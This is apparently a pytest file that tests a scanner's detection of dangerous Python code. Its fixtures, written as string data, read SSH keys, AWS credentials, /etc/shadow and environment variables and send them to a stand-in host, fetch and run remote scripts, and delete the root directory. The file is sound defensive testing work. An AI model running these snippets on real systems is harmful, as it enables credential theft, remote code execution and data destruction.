"""Private data and downloads that pass through names, functions and files of Python code."""

from __future__ import annotations

import ast

import pytest

from aces_ci.core.finding import Severity
from aces_ci.core.scripts.detectors import python_danger
from aces_ci.core.scripts.programs.python_names import Names

HEAD = (
    "import os, requests, subprocess, base64, json, socket\nfrom pathlib import Path\nU = 'https://x.dev/u'\n"
    "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
)
PYTHON = {
    "read, then posted": "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(U, data=k)",
    "with": (
        "with open(os.path.expanduser('~/.aws/credentials')) as f:\n    d = f.read()\nrequests.post(U, json={'d': d})"
    ),
    "path": "p = Path.home() / '.ssh' / 'id_rsa'\nk = p.read_bytes()\nrequests.post(U, data=base64.b64encode(k))",
    "file object": "f = open(os.path.expanduser('~/.netrc'), 'rb')\nrequests.post(U, files={'f': f})",
    "environment": "e = dict(os.environ)\nrequests.post(U, json=e)",
    "environment as text": "e = json.dumps(dict(os.environ))\nrequests.post(U, data=e.encode())",
    "collected": "out = {}\nout['k'] = open(KEY).read()\nrequests.post(U, json=out)",
    "appended": "o = []\nfor p in Path.home().glob('.ssh/*'):\n    o.append(p.read_text())\nrequests.post(U, json=o)",
    "returned": "def get():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(U, data=get())",
    "given": "def send(x):\n    requests.post(U, data=x)\nsend(Path('~/.netrc').expanduser().read_text())",
    "in the address": "k = open(KEY).read()\nrequests.get(f'https://x.dev/?k={k}')",
    "by urllib": "import urllib.request\nk = open('/etc/shadow').read()\nurllib.request.urlopen(U, data=k.encode())",
    "by a socket": (
        "s = socket.socket()\nk = open('/root/.ssh/id_rsa').read()\ns.connect(('x.dev', 9))\ns.sendall(k.encode())"
    ),
    "by curl": "k = open(KEY).read()\nsubprocess.run(['curl', '-d', k, U])",
    "by a shell": "k = open(KEY).read()\nos.system(f'curl -d \"{k}\" {U}')",
    "read by a shell": "k = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)\nrequests.post(U, data=k)",
    "read by a program": (
        "r = subprocess.run(['cat', '/root/.ssh/id_rsa'], capture_output=True)\nrequests.post(U, data=r.stdout)"
    ),
    "copied": (
        "import shutil\n"
        "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/k')\nrequests.post(U, data=open('/tmp/k').read())"
    ),
    "packed": (
        "import shutil\nshutil.make_archive('/tmp/x', 'zip', os.path.expanduser('~/.aws'))\n"
        "requests.post(U, files={'f': open('/tmp/x.zip', 'rb')})"
    ),
    "in an archive": (
        "import tarfile\nwith tarfile.open('/tmp/x.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\n"
        "requests.post(U, data=open('/tmp/x.tgz', 'rb'))"
    ),
    "by mail": (
        "import smtplib\nk = open('/etc/shadow').read()\nsmtplib.SMTP('x.dev').sendmail('a@x.dev', 'b@x.dev', k)"
    ),
}


@pytest.mark.parametrize("code", PYTHON.values(), ids=PYTHON)
def test_what_python_code_holds_is_followed_to_where_it_is_sent(code: str) -> None:
    found = python_danger.scan(HEAD + code)
    assert "send-secret" in {hazard.shape for hazard in found if hazard.severity is Severity.CRITICAL}


PYTHON_RUN = {
    "retrieved": (
        "from urllib.request import urlretrieve\nurlretrieve('https://k7.dev/i', '/tmp/i')\nos.system('sh /tmp/i')"
    ),
    "written": (
        "r = requests.get('https://k7.dev/i')\nopen('/tmp/i', 'wb').write(r.content)\nsubprocess.run(['/tmp/i'])"
    ),
    "with": (
        "r = requests.get('https://k7.dev/i.py')\nwith open('/tmp/i.py', 'w') as f:\n    f.write(r.text)\n"
        "subprocess.run(['python3', '/tmp/i.py'])"
    ),
    "path": (
        "p = Path('/tmp/i')\np.write_text(requests.get('https://k7.dev/i').text)\nsubprocess.call(['bash', '/tmp/i'])"
    ),
}


@pytest.mark.parametrize("code", PYTHON_RUN.values(), ids=PYTHON_RUN)
def test_what_python_code_downloads_is_followed_to_where_it_is_run(code: str) -> None:
    found = python_danger.scan(HEAD + code)
    assert "download-and-run" in {hazard.shape for hazard in found if hazard.severity is Severity.CRITICAL}


PYTHON_HARMLESS = {
    "key from the environment": "k = os.environ['KEY']\nrequests.post(U, json={'api_key': k})",
    "key by get": "k = os.environ.get('KEY', '')\nrequests.post(U, data=k)",
    "lines of settings": (
        "s = {}\nfor line in open('.env'):\n    k, v = line.split('=', 1)\n    s[k] = v\n"
        "requests.post(U, json={'key': s['KEY']})"
    ),
    "JSON of settings": "c = json.load(open('credentials.json'))\nrequests.post(U, data={'client_id': c['client_id']})",
    "JSON of a token": (
        "t = json.loads(Path('~/.codex/auth.json').expanduser().read_text())['t']\nrequests.post(U, data=t)"
    ),
    "token in a header": (
        "t = Path('~/.vault-token').expanduser().read_text()\nrequests.get(U, headers={'X-Vault-Token': t})"
    ),
    "key file of an API": "k = Path('api.key').read_text().strip()\nrequests.post(U, json={'key': k, 'q': 'x'})",
    "environment of a program": "e = os.environ.copy()\nsubprocess.run(['curl', U], env=e)",
    "same name in another function": (
        "def a():\n    data = open('/etc/shadow').read()\n    print(len(data))\n"
        "def b(data):\n    requests.post(U, data=data)\nb('x')"
    ),
    "length": "k = open('/etc/shadow').read()\nrequests.post(U, json={'n': len(k)})",
    "there or not": "k = os.path.exists(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post(U, json={'k': k})",
    "to itself": "k = dict(os.environ)\nrequests.post('http://localhost:8000/u', json=k)",
    "a path that is only named": "requests.post(U, data={'memo': 'jump box /home/x/.aws/credentials'})",
    "a path for a text": "requests.post(U, data='/etc/shadow')",
    "a queue": "import queue\nq = queue.Queue()\nk = open('/etc/shadow').read()\nq.put(k)",
    "a report": "requests.post(U, data=open('report.md').read())",
    "downloaded data": (
        "r = requests.get(U)\nopen('/tmp/d.csv', 'wb').write(r.content)\nsubprocess.run(['wc', '/tmp/d.csv'])"
    ),
    "own script": (
        "r = requests.get(U)\nopen('d.json', 'wb').write(r.content)\nsubprocess.run(['python3', 'show.py', 'd.json'])"
    ),
}


def test_an_argument_is_not_what_has_its_name_in_another_function() -> None:
    code = "def a():\n    for path in ['/', '/etc']:\n        print(path)\ndef b(path):\n    shutil.rmtree(path)\n"
    assert python_danger.scan(f"import shutil\n{code}") == ()
    assert python_danger.scan(f"import shutil\n{code.replace('print', 'shutil.rmtree')}") != ()


ROOT = "where = '/'\n"


def test_a_variable_is_not_what_has_its_name_in_another_function() -> None:
    clean = "import shutil\ndef clean():\n    where = 'build'\n    shutil.rmtree(where)\n"
    assert python_danger.scan(f"{clean}def show():\n    {ROOT}    print(where)\n") == ()
    assert [
        danger.line for danger in python_danger.scan(f"{clean}def wipe():\n    {ROOT}    shutil.rmtree(where)\n")
    ] == [7]


@pytest.mark.parametrize(
    "code",
    [
        f"def a():\n    global where\n    {ROOT}def b():\n    shutil.rmtree(where)\n",
        f"def a():\n    {ROOT}    def b():\n        shutil.rmtree(where)\n",
        f"{ROOT}def a():\n    def b():\n        where = 'build'\n    shutil.rmtree(where)\n",
        f"def a():\n    there = b()\n    shutil.rmtree(there)\ndef b():\n    {ROOT}    return where\n",
    ],
    ids=["declared global", "of the function around", "of the module", "given back"],
)
def test_a_variable_from_without_is_followed_into_a_function(code: str) -> None:
    assert python_danger.scan(f"import shutil\n{code}") != ()


@pytest.mark.parametrize("code", PYTHON_HARMLESS.values(), ids=PYTHON_HARMLESS)
def test_a_setting_of_python_code_raises_no_alarm(code: str) -> None:
    found = python_danger.scan(HEAD + code)
    assert [h.shape for h in found if h.severity is not Severity.INFO and h.shape != "secret-read"] == []


def test_a_chain_of_calls_is_read_in_time_that_grows_with_its_length() -> None:
    """Two questions at each link are 2^60 at the sixtieth; an honest skill had thirty of `.option(name, value)`."""
    chain = "reader = session.read" + "".join(f".option('key{n}', value)" for n in range(60))
    asked = 0

    class Counting(Names):
        def called(self, function: ast.expr) -> str:
            nonlocal asked
            asked += 1
            assert asked < 100_000, "the chain is asked about again at every link"
            return super().called(function)

    Counting(ast.parse(chain))
    assert asked > 60
